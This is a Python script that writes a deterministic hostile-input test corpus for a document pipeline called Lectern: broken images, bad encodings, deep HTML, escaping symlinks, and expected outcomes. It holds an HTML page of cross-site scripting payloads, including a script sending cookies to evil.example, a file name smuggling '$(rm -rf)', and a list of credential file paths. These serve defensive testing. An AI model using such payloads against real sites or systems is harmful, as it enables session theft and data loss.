#!/usr/bin/env python3
"""Writes Lectern's hostile-input corpus: an inbox of bad files (and a few good ones) with the outcome
each must have.

    scripts/make-hostile-corpus.py INBOX [--outside FILE]

INBOX is created (it must not exist yet). With --outside, a symlink `scripts/escape.txt` pointing at FILE
(which should lie outside the inbox) is added. Next to the inbox, INBOX.expected.json maps each source path
(as index.json names it) to {"state": "done"|"failed", "errorCode": CODE or null}.

The test Tests/LecternPipelineTests/HostileCorpusTests.swift runs this script and then `lectern run` over the
inbox; by hand:

    scripts/make-hostile-corpus.py /tmp/hostile --outside /etc/hostname
    lectern run --inbox /tmp/hostile --out /tmp/hostile-out; lectern status --out /tmp/hostile-out --failed

Everything is generated from code (no randomness: "noise" comes from a fixed LCG), so the corpus is the same
on every run.
"""
import json
import os
import struct
import sys
import zlib

STORY = (
    "The river carried cold water from the mountains to the sea. Every spring the farmers watched the "
    "banks rise and waited for the flood to pass. A young engineer named Clara studied the old stone bridge "
    "and measured the current each morning. She wrote careful notes about erosion and the gentle curve of "
    "the valley. When the storm finally arrived, her calculations helped the village prepare. The bridge "
    "survived, and the children painted a mural for the brave engineer.\n"
)

GOOD_POST = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Variables | Safe course</title></head>
<body><main><article>
<h1>Variables</h1>
<h2>Naming values</h2>
<p>A variable gives a name to a value so that a program can use it again later.</p>
<pre><code>x = 3
print(x)</code></pre>
<h2>Changing values</h2>
<p>Assigning a new value to a variable replaces the old value, and the name now refers to the new one.</p>
</article></main></body></html>
"""

# Everything a bundle must never contain: scripts, event handlers, javascript: URLs.
HOSTILE_POST = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Functions | Hostile course</title>
<script>document.location='http://evil.example/?c='+document.cookie</script>
<script src="http://evil.example/x.js"></script>
<style>body { background: url("javascript:alert(1)") }</style>
<meta http-equiv="refresh" content="0;url=javascript:alert(2)">
</head>
<body onload="alert(3)"><main><article>
<h1 onclick="alert(4)">Functions</h1>
<h2 onmouseover="alert(5)">Defining a function</h2>
<p>A function groups statements under a name so that the program can run them whenever it needs them.</p>
<p onclick="steal()">Calling a function runs its body with the arguments given in the call.</p>
<p>Read <a href="javascript:alert(6)">this link</a> or <a href="JaVaScRiPt:alert(7)">that one</a>
or <a href="  javascript:alert(8)">another</a> or <a href="vbscript:msgbox(9)">one more</a>
or <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a data link</a>.</p>
<img src="x.png" onerror="alert(10)" alt="a picture">
<img src="javascript:alert(11)" alt="another picture">
<iframe src="http://evil.example/frame"></iframe>
<object data="evil.swf"></object><embed src="evil.swf">
<form action="javascript:alert(12)"><input type="text" onfocus="alert(13)" autofocus></form>
<svg onload="alert(14)"><script>alert(15)</script></svg>
<h2>Returning values</h2>
<p>A function can hand a value back to its caller with the return statement.</p>
<div><script>alert(16)</script><noscript><p>Enable scripts</p></noscript></div>
<p>&lt;script&gt;alert(17)&lt;/script&gt; is how the tag looks when written as text.</p>
</article></main></body></html>
"""


def png_chunk(kind, payload):
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload) & 0xFFFFFFFF)


def png(width, height):
    """A structurally valid PNG (correct chunk CRCs): 8-bit greyscale, every row white."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = min(height, 64)  # the pixel data of a huge image is not needed: the header decides
    raw = b"".join(b"\x00" + b"\xff" * min(width, 64) for _ in range(rows))
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", zlib.compress(raw))
            + png_chunk(b"IEND", b""))


def noise(n, seed=12345):
    out = bytearray()
    x = seed
    for _ in range(n):
        x = (x * 1103515245 + 12345) & 0x7FFFFFFF
        out.append((x >> 16) & 0xFF)
    return bytes(out)


def nested_html(depth):
    return ("<!DOCTYPE html><html><head><title>Deep</title></head><body><main><article><h1>Deep</h1>"
            + "<div>" * depth + "<p>The bottom of a very deep page holds the text a reader came for.</p>"
            + "</div>" * depth + "</article></main></body></html>\n")


def build(inbox, outside):
    expected = {}
    files = {}

    def put(path, data, state, code=None):
        files[path] = data if isinstance(data, bytes) else data.encode("utf-8")
        expected[path] = {"state": state, "errorCode": code}

    jpeg_sample = bytes.fromhex("ffd8ffe000104a46494600010100000100010000ffdb0043") + b"\x08" * 64

    # --- homework photos (top level or photos/) ---
    # (Items are keyed by content: two zero-byte photos would be one item, so there is one per kind.)
    put("photos/empty.jpg", b"", "failed", "empty-file")
    put("photos/one-byte.png", b"\x89", "failed", "mislabelled-file")
    put("photos/truncated.png", png(32, 32)[:60], "failed", "unreadable-image")
    put("photos/truncated.jpg", jpeg_sample, "failed", "unreadable-image")
    put("photos/text-named.jpg", b"/etc/passwd\n/etc/shadow\n/root/.ssh/id_rsa\n", "failed", "mislabelled-file")
    put("photos/html-named.png", GOOD_POST, "failed", "mislabelled-file")
    put("photos/pdf-named.tif", b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n", "failed", "mislabelled-file")
    put("photos/noise.jpeg", noise(4096, 7), "failed", "mislabelled-file")
    put("photos/huge-50000x50000.png", png(50000, 50000), "failed", "image-too-large")
    put("photos/zero-width.png", png(0, 10), "failed", "unreadable-image")
    put("photos/bad-crc.png", png(16, 16)[:40] + b"\x00" + png(16, 16)[41:], "failed", "unreadable-image")
    put("photos/blank white.png", png(64, 64), "failed", "no-text-found")

    # --- text scripts ---
    put("scripts/empty.txt", b"", "failed", "empty-file")
    put("scripts/noise.txt", noise(8192, 99), "failed", "encoding-error")
    put("scripts/invalid-utf8.txt", b"Caf\xc3\x28 au lait \x01\x02\xff\xfe broken \xe2\x82 bytes\n", "failed", "encoding-error")
    put("scripts/utf16-no-bom.txt", STORY.encode("utf-16-le"), "failed", "encoding-error")
    put("scripts/utf16be-no-bom.srt", ("1\n00:00:01,000 --> 00:00:02,000\n" + STORY).encode("utf-16-be"),
        "failed", "encoding-error")
    put("scripts/only-punctuation.txt", "... !!! ??? --- *** 123 456 789 ...\n" * 5, "failed", "no-text-found")
    put("scripts/png-named.txt", png(16, 16), "failed", "encoding-error")
    put("scripts/truncated-utf16-bom.txt", b"\xff\xfe" + STORY.encode("utf-16-le")[:101], "failed", "encoding-error")
    put("scripts/script-tags.txt", "<script>alert(1)</script> " + STORY, "done")  # text, not HTML: words only
    put("scripts/latin1 story.txt", STORY.replace("engineer", "ing\u00e9nieur").encode("latin-1"), "done")
    put("scripts/-rf --help.txt", STORY, "done")
    put("scripts/\u00e9t\u00e9 \u6c34 \U0001F30A.txt", STORY.replace("river", "stream"), "done")
    put("scripts/with spaces and 'quotes' $(rm -rf).txt", STORY.replace("river", "brook"), "done")
    put("scripts/utf16 with bom.txt", b"\xff\xfe" + STORY.replace("river", "creek").encode("utf-16-le"), "done")
    put("readme.md", "# not an input\n", "failed", "unsupported-file")
    put("photos/.hidden.jpg", b"", None)  # hidden: never an item

    # --- course posts: each a top-level folder, so that one bad post does not fail a good course ---
    put("good-course/week-01/01-variables.html", GOOD_POST, "done")
    put("good-course/week-01/images/pic.png", png(8, 8), None)  # an asset: no item of its own
    put("hostile-course/week-01/01-functions.html", HOSTILE_POST, "done")
    put("empty-post/01.html", b"", "failed", "empty-file")
    put("blank-post/01.html", b"   \n\t\n  ", "failed", "empty-file")
    put("deep-post/01.html", nested_html(300), "failed", "truncated-html")
    put("deeper-post/01.htm", nested_html(5000), "failed", "truncated-html")
    put("png-post/01.html", png(16, 16), "failed", "mislabelled-file")
    put("utf16-post/01.html", GOOD_POST.encode("utf-16-le"), "failed", "encoding-error")
    put("noise-post/01.html", noise(4096, 3) + b"\x00" * 64, "failed", "malformed-html")
    put("script-only-post/01.html", "<html><head><script>alert(1)</script></head><body><script>alert(2)</script></body></html>",
        "failed", "no-text-found")
    put("truncated-post/01.html", GOOD_POST[: len(GOOD_POST) // 2], "done")  # the parser recovers what is there
    put("-dash course/week-01/-01 intro \u00fcber.html", GOOD_POST.replace("Variables", "Loops"), "done")

    for path, data in files.items():
        full = os.path.join(inbox, path)
        os.makedirs(os.path.dirname(full), exist_ok=True)
        with open(full, "wb") as f:
            f.write(data)
    expected = {k: v for k, v in expected.items() if v["state"] is not None}

    if outside:
        os.symlink(os.path.abspath(outside), os.path.join(inbox, "scripts", "escape.txt"))
        expected["scripts/escape.txt"] = {"state": "failed", "errorCode": "outside-inbox"}
        os.symlink(os.path.join(inbox, "no-such-file.txt"), os.path.join(inbox, "scripts", "dangling.txt"))
        expected["scripts/dangling.txt"] = {"state": "failed", "errorCode": "source-missing"}
        os.symlink(os.path.abspath(os.path.dirname(os.path.abspath(outside))), os.path.join(inbox, "linked-folder"))
        expected["linked-folder"] = {"state": "failed", "errorCode": "outside-inbox"}

    # Courses appear in index.json as their folder (kind lecture) besides each post.
    courses = {}
    for path, outcome in list(expected.items()):
        if path.endswith((".html", ".htm")):
            course = path.split("/")[0]
            courses.setdefault(course, []).append(outcome)
    for course, posts in courses.items():
        # A course whose every post failed has nothing to teach: its lecture fails with no-text-found.
        expected[course] = {"state": "done", "errorCode": None} if any(p["state"] == "done" for p in posts) \
            else {"state": "failed", "errorCode": "no-text-found"}
    return expected


def main():
    args = sys.argv[1:]
    outside = None
    if "--outside" in args:
        i = args.index("--outside")
        outside = args[i + 1]
        del args[i:i + 2]
    if len(args) != 1:
        print(__doc__, file=sys.stderr)
        sys.exit(2)
    inbox = args[0]
    if os.path.exists(inbox):
        print(f"{inbox} exists; give a new folder", file=sys.stderr)
        sys.exit(2)
    os.makedirs(inbox)
    expected = build(inbox, outside)
    with open(inbox.rstrip("/") + ".expected.json", "w") as f:
        json.dump(expected, f, indent=1, sort_keys=True, ensure_ascii=False)
    print(f"{len(expected)} entries in {inbox} ({inbox.rstrip('/')}.expected.json)")


if __name__ == "__main__":
    main()
